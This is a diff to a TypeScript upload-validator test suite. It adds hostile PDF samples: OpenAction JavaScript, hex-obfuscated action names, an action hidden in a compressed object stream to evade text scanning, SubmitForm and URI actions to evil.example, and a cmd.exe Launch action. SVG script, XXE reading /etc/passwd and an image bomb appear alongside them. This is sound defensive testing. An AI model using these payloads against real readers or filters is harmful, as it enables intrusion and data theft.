@@ -1,19 +1,29 @@
 import { existsSync, readdirSync } from 'node:fs'
+import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import type { Mall } from './mall.ts'
 import type { Outcome } from './outcome.ts'
 
 const MARK = 'proof-boundary-7f3a'
-const PDF = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
+const PAGE = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n'
+const PDF = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n${PAGE}trailer<</Root 1 0 R>>\n%%EOF\n`
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
 const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
 const HTML = '<html><body><script>alert(1)</script></body></html>'
-const pdfWith = (inside: string) => `%PDF-1.4\n${inside}\n%%EOF`
+/** One object more, hung into the catalogue by `entry`. */
+const pdfWith = (entry: string, more = '') =>
+  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${entry}>>endobj\n${PAGE}${more}trailer<</Root 1 0 R>>\n%%EOF\n`
+/** The action lies in a packed stream of objects, where a search of the text sees nothing. */
+function packed(action: string): Buffer {
+  const body = deflateSync(`4 0 ${action}`)
+  const head = `%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n${PAGE}5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${body.length}>>stream\n`
+  return Buffer.concat([Buffer.from(head), body, Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')])
+}
 /** A PNG that claims 60,000 x 60,000 points. */
 const FLOOD = Buffer.from('89504e470d0a1a0a0000000d494844520000ea600000ea600806000000', 'hex')
 const ZIP = Buffer.concat([Buffer.from('504b030414000000080000000000', 'hex'), Buffer.alloc(4000)])
 
-type Expect = 'suffix' | 'whitelist' | 'format' | 'content' | 'large' | 'one' | 'taken'
+type Expect = 'suffix' | 'whitelist' | 'format' | 'content' | 'active' | 'large' | 'one' | 'taken'
 interface Form {
   name: string
   bytes: Buffer | string
@@ -22,11 +32,12 @@ interface Form {
   files?: number
 }
 const codeOf: Record<Expect, number> = {
-  ...{ suffix: 4501, whitelist: 4502, format: 4503, content: 4504, large: 4505, one: 9400, taken: 1 },
+  ...{ suffix: 4501, whitelist: 4502, format: 4503, content: 4504, active: 4509, large: 4505, one: 9400, taken: 1 },
 }
 
 function forms(photo: Buffer, png: Buffer, webp: Buffer, gif: Buffer): Form[] {
   const format = (name: string, bytes: Buffer | string): Form => ({ name, bytes, expect: 'format' })
+  const active = (bytes: Buffer | string): Form => ({ name: 'a.pdf', bytes, expect: 'active' })
   const content = (name: string, bytes: Buffer | string): Form => ({ name, bytes, expect: 'content' })
   return [
     ...['营业执照', '营业执照.', 'a. ', '...'].map((name): Form => ({ name, bytes: photo, expect: 'suffix' })),
@@ -58,9 +69,15 @@ function forms(photo: Buffer, png: Buffer, webp: Buffer, gif: Buffer): Form[] {
     content('a.jpg', photo.subarray(0, 60)),
     content('a.jpg', ZIP),
     content('a.jpg', Buffer.alloc(0)),
-    content('a.pdf', pdfWith('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')),
-    content('a.pdf', pdfWith('<</Type/Action/S/Launch/F(cmd.exe)>>')),
-    content('a.pdf', pdfWith('<</EmbeddedFile 3 0 R>>')),
+    active(pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
+    active(pdfWith('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')),
+    active(packed('<</S/JavaScript/JS(app.alert(1))>>')),
+    active(pdfWith('/OpenAction<</S/URI/URI(https://evil.example)>>')),
+    active(packed('<</S/URI/URI(https://evil.example)>>')),
+    active(pdfWith('/AA<</WC<</S/SubmitForm/F(https://evil.example)>>>>')),
+    active(pdfWith('/Names<</EmbeddedFiles<</Names[]>>>>')),
+    active(pdfWith('/OpenAction 4 0 R', '4 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n')),
+    active(`${PDF}${HTML}\n%%EOF`),
     content('a.pdf', '%PDF-1.4 without an end'),
     content('a.pdf', `${HTML}${PDF}`),
     {
